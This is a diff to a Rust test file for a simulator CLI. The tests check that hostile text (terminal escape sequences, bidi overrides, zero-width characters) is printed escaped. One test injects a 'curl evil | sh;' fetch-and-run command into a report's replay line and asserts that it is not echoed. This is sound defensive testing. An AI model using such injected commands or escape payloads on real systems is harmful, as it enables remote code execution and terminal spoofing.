@@ -10,6 +10,8 @@ use flate2::read::MultiGzDecoder;
 use overlapsim::escape::is_printable;
 use serde_json::Value;
 
+use crate::common::folder::Folder;
+
 /// Characters that must not reach a terminal, by number.
 const WRONG: [u32; 25] = [
     0x1b, 0x07, 0x0d, 0x08, 0x7f, 0x85, 0x9b, 0xa0, 0xad, 0x115f, 0x180e, 0x200b, 0x200f, 0x2028, 0x2029, 0x202e,
@@ -24,24 +26,16 @@ fn hostile() -> String {
     format!("h{wrong}\x1b[2J\x1b[31mred\x1b]0;title\x07\t\n{FORGED}\n\u{202e}e")
 }
 
-struct Folder(PathBuf);
-
 impl Folder {
-    fn new(name: &str) -> Folder {
-        let path = std::env::temp_dir().join(format!("overlapsim-hostile-{name}-{}", std::process::id()));
-        let _ = fs::remove_dir_all(&path);
-        fs::create_dir_all(&path).unwrap();
-        Folder(path)
-    }
-
-    fn write(&self, name: &str, text: &str) -> String {
-        fs::write(self.0.join(name), text).unwrap();
+    /// Writes a file and returns its name.
+    fn named(&self, name: &str, text: &str) -> String {
+        self.write(name, text);
         name.to_owned()
     }
 
     /// Runs a command line with and without colours. Returns the output without.
     #[track_caller]
-    fn run(&self, args: &[&str]) -> Output {
+    fn run_shown(&self, args: &[&str]) -> Output {
         let outputs = ["always", "never"].map(|color| {
             let args: Vec<&str> = ["--color", color].into_iter().chain(args.iter().copied()).collect();
             let output = self.command(&args).output().unwrap();
@@ -66,12 +60,6 @@ impl Folder {
             let text = fs::read(self.0.join(name)).unwrap_or_else(|error| panic!("{name:?}: {error}"));
             assert_shown(&text, "never", &[name]);
         }
-    }
-}
-
-impl Drop for Folder {
-    fn drop(&mut self) {
-        let _ = fs::remove_dir_all(&self.0);
     }
 }
 
@@ -145,8 +133,8 @@ fn spoiled(value: &Value) -> Vec<Value> {
 
 #[test]
 fn arguments_are_shown_escaped() {
-    let folder = Folder::new("arguments");
-    let (h, one) = (&*hostile(), &*folder.write("one.ron", &scenario()));
+    let folder = Folder::new("hostile-arguments");
+    let (h, one) = (&*hostile(), &*folder.named("one.ron", &scenario()));
     let option = &*format!("--{h}");
     let joined = |name: &str| format!("{name}={h}");
     let lines: Vec<Vec<&str>> = vec![
@@ -194,7 +182,7 @@ fn arguments_are_shown_escaped() {
         vec!["--color", h],
     ];
     for args in lines {
-        let mut outputs = vec![folder.run(&args)];
+        let mut outputs = vec![folder.run_shown(&args)];
         // The name of the program is an argument too.
         let mut command = folder.command(&args);
         outputs.push(command.arg0(h).env("JOB_COMPLETION_INDEX", h).env("COLUMNS", "40").output().unwrap());
@@ -206,22 +194,22 @@ fn arguments_are_shown_escaped() {
         }
     }
     for name in ["--seed", "--format", "--rule"] {
-        folder.run(&["run", one, &joined(name)]);
+        folder.run_shown(&["run", one, &joined(name)]);
     }
 }
 
 #[test]
 fn names_of_files_are_shown_escaped() {
-    let folder = Folder::new("names");
+    let folder = Folder::new("hostile-names");
     let h = hostile();
     let name = |end: &str| format!("{h}{end}");
     let (file, json, page, made) = (name(".ron"), name(".json"), name(".html"), name(".made.ron"));
     let (found, pages, below) = (name("found"), name("man"), name("below"));
-    folder.write(&file, &scenario());
+    folder.named(&file, &scenario());
     let search = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/check/interleaved.ron")).unwrap();
-    let (search, recording_name) = (folder.write(&name("s.ron"), &search), name(".jsonl"));
+    let (search, recording_name) = (folder.named(&name("s.ron"), &search), name(".jsonl"));
     let lines: Vec<String> = recording().iter().map(Value::to_string).collect();
-    folder.write(&recording_name, &(lines.join("\n") + "\n"));
+    folder.named(&recording_name, &(lines.join("\n") + "\n"));
     fs::create_dir(folder.0.join(&below)).unwrap();
     fs::copy(folder.0.join(&file), folder.0.join(&below).join(&file)).unwrap();
     fs::copy(folder.0.join(&recording_name), folder.0.join(&below).join(&recording_name)).unwrap();
@@ -266,7 +254,7 @@ fn names_of_files_are_shown_escaped() {
         vec!["conform", &file],
     ];
     for args in lines {
-        let output = folder.run(&args);
+        let output = folder.run_shown(&args);
         if args.ends_with(&["--format", "json"]) && args[0] != "merge" {
             let value: Value =
                 serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{args:?}: {error}"));
@@ -288,7 +276,7 @@ fn names_of_files_are_shown_escaped() {
 
 #[test]
 fn scenarios_are_shown_escaped() {
-    let folder = Folder::new("scenarios");
+    let folder = Folder::new("hostile-scenarios");
     let h = hostile();
     let in_line = h.replace('\n', " ");
     let quoted = h.replace('\\', "\\\\").replace('"', "\\\"");
@@ -320,31 +308,31 @@ fn scenarios_are_shown_escaped() {
         fs::read_to_string("../shared/hostile/esc-comment.ron").unwrap_or_default(),
         fs::read_to_string("../shared/hostile/bad2.ron").unwrap_or_default(),
     ];
-    folder.write("trace.csv", &format!("TIMESTAMP,ContextTokens,GeneratedTokens\n{in_line},{in_line},3\n"));
-    folder.write("trace.jsonl", &format!("{{\"timestamp\": 0, \"{in_line}\": 3, \"input_length\": \"{in_line}\"}}\n"));
+    folder.named("trace.csv", &format!("TIMESTAMP,ContextTokens,GeneratedTokens\n{in_line},{in_line},3\n"));
+    folder.named("trace.jsonl", &format!("{{\"timestamp\": 0, \"{in_line}\": 3, \"input_length\": \"{in_line}\"}}\n"));
     for (at, text) in texts.iter().enumerate() {
-        let name = folder.write(&format!("{at}.ron"), text);
-        folder.run(&["run", &name, "--timeline"]);
-        let printed = folder.run(&["scenario", &name]);
+        let name = folder.named(&format!("{at}.ron"), text);
+        folder.run_shown(&["run", &name, "--timeline"]);
+        let printed = folder.run_shown(&["scenario", &name]);
         if printed.status.success() {
             // What is printed means what the file means.
-            folder.write("again.ron", std::str::from_utf8(&printed.stdout).unwrap());
+            folder.named("again.ron", std::str::from_utf8(&printed.stdout).unwrap());
             let json = |name: &str| {
-                let text = folder.run(&["scenario", name, "--format", "json"]).stdout;
+                let text = folder.run_shown(&["scenario", name, "--format", "json"]).stdout;
                 let mut value: Value = serde_json::from_slice(&text).unwrap();
                 value["name"] = Value::Null;
                 value
             };
             assert_eq!(json(&name), json("again.ron"));
-            folder.run(&["report", &name, "-o", "page.html"]);
+            folder.run_shown(&["report", &name, "-o", "page.html"]);
             folder.assert_written(&["page.html"]);
         }
     }
-    folder.run(&["test", "."]);
+    folder.run_shown(&["test", "."]);
     // An id is refused for each of the characters.
     for c in WRONG.into_iter().filter_map(char::from_u32) {
         let text = format!(r#"(requests: [(id: "a\u{{{:x}}}", prompt: Fresh(1), stop: Token(4))])"#, u32::from(c));
-        let output = folder.run(&["run", &folder.write("id.ron", &text)]);
+        let output = folder.run_shown(&["run", &folder.named("id.ron", &text)]);
         let error = String::from_utf8(output.stderr).unwrap();
         assert!(error.contains("cannot be printed"), "{c:?}: {error}");
     }
@@ -352,10 +340,10 @@ fn scenarios_are_shown_escaped() {
 
 #[test]
 fn the_mark_is_below_what_was_escaped() {
-    let folder = Folder::new("mark");
+    let folder = Folder::new("hostile-mark");
     let text = r#"(requests: [(id: "a", prompt: Fresh(1), stop: Token(4)), /* XY */ (id: "b", promt: Fresh(1))])"#;
-    let name = folder.write("mark.ron", &text.replace("XY", "\u{202e}\u{200b}\x1b[2J\u{e0001}\u{ad}"));
-    let error = String::from_utf8(folder.run(&["run", &name]).stderr).unwrap();
+    let name = folder.named("mark.ron", &text.replace("XY", "\u{202e}\u{200b}\x1b[2J\u{e0001}\u{ad}"));
+    let error = String::from_utf8(folder.run_shown(&["run", &name]).stderr).unwrap();
     let lines: Vec<&str> = error.lines().collect();
     let source = lines.iter().position(|line| line.contains("promt: Fresh")).expect("the line of the source");
     assert_eq!(lines[source].find("promt"), lines[source + 1].find('^'), "{error}");
@@ -364,7 +352,7 @@ fn the_mark_is_below_what_was_escaped() {
 
 #[test]
 fn recordings_are_shown_escaped() {
-    let folder = Folder::new("recordings");
+    let folder = Folder::new("hostile-recordings");
     let whole = recording();
     // A line of each kind of event, and each field of it.
     let mut seen = std::collections::BTreeSet::new();
@@ -377,7 +365,7 @@ fn recordings_are_shown_escaped() {
             let lines = whole.iter().enumerate();
             let lines: Vec<String> =
                 lines.map(|(of, line)| if of == at { spoiled.to_string() } else { line.to_string() }).collect();
-            folder.write(&format!("{files}.jsonl"), &(lines.join("\n") + "\n"));
+            folder.named(&format!("{files}.jsonl"), &(lines.join("\n") + "\n"));
             files += 1;
         }
     }
@@ -385,12 +373,12 @@ fn recordings_are_shown_escaped() {
     for name in ["esc-conform-event.jsonl", "esc-conform-field.jsonl"] {
         let _ = fs::copy(Path::new("../shared/hostile").join(name), folder.0.join(name));
     }
-    folder.run(&["conform", "."]);
-    folder.run(&["conform", ".", "--plan", "own", "--rule", "token-len"]);
-    let json = folder.run(&["conform", ".", "--format", "json"]).stdout;
+    folder.run_shown(&["conform", "."]);
+    folder.run_shown(&["conform", ".", "--plan", "own", "--rule", "token-len"]);
+    let json = folder.run_shown(&["conform", ".", "--format", "json"]).stdout;
     serde_json::from_slice::<Value>(&json).expect("JSON");
     for file in (0..files).step_by(3) {
-        let output = folder.run(&["import", &format!("{file}.jsonl"), "-o", "made.ron"]);
+        let output = folder.run_shown(&["import", &format!("{file}.jsonl"), "-o", "made.ron"]);
         if output.status.code() != Some(2) {
             folder.assert_written(&["made.ron"]);
         }
@@ -399,33 +387,33 @@ fn recordings_are_shown_escaped() {
 
 #[test]
 fn reports_of_shards_are_shown_escaped_and_their_command_lines_are_made_anew() {
-    let folder = Folder::new("shards");
+    let folder = Folder::new("hostile-shards");
     let search = concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/check/interleaved.ron");
-    let plain = folder.run(&["fuzz", search, "--seeds", "0..60", "--out", "found"]);
+    let plain = folder.run_shown(&["fuzz", search, "--seeds", "0..60", "--out", "found"]);
     let text = fs::read_to_string(folder.0.join("found/fuzz-0-of-1.json")).unwrap();
     let report: Value = serde_json::from_str(&text).unwrap();
-    let merged = folder.run(&["merge", "found/fuzz-0-of-1.json"]);
+    let merged = folder.run_shown(&["merge", "found/fuzz-0-of-1.json"]);
     assert_eq!(String::from_utf8(merged.stdout).unwrap(), String::from_utf8(plain.stdout).unwrap());
     let mut taken = 0;
     for spoiled in spoiled(&report).into_iter().chain(findings_spoiled(&report)) {
-        folder.write("shard.json", &spoiled.to_string());
-        let output = folder.run(&["merge", "shard.json"]);
-        folder.run(&["merge", "shard.json", "--format", "json"]);
+        folder.named("shard.json", &spoiled.to_string());
+        let output = folder.run_shown(&["merge", "shard.json"]);
+        folder.run_shown(&["merge", "shard.json", "--format", "json"]);
         taken += usize::from(output.status.code() != Some(2));
     }
     assert!(taken > 3, "texts without a meaning of their own are taken: {taken}");
     // A command line of a file is not printed.
     let evil = text.replace("overlapsim run ", "curl evil | sh; overlapsim run ");
     assert_ne!(evil, text);
-    folder.write("evil.json", &evil);
-    let output = String::from_utf8(folder.run(&["merge", "evil.json"]).stdout).unwrap();
+    folder.named("evil.json", &evil);
+    let output = String::from_utf8(folder.run_shown(&["merge", "evil.json"]).stdout).unwrap();
     assert!(output.contains("replay: overlapsim run ") && !output.contains("evil"), "{output}");
     // Nor is a verdict that its own counts deny.
-    folder.write("clean.json", &text.replacen("\"verdict\": \"corrupt\"", "\"verdict\": \"clean\"", 1));
-    assert_eq!(folder.run(&["merge", "clean.json"]).status.code(), Some(2));
+    folder.named("clean.json", &text.replacen("\"verdict\": \"corrupt\"", "\"verdict\": \"clean\"", 1));
+    assert_eq!(folder.run_shown(&["merge", "clean.json"]).status.code(), Some(2));
     let shared = fs::read_to_string("../shared/hostile/esc-merge.json").unwrap_or_default();
-    folder.write("shared.json", &shared);
-    folder.run(&["merge", "shared.json"]);
+    folder.named("shared.json", &shared);
+    folder.run_shown(&["merge", "shared.json"]);
 }
 
 /// Reports in which one value of the first finding is the hostile text.
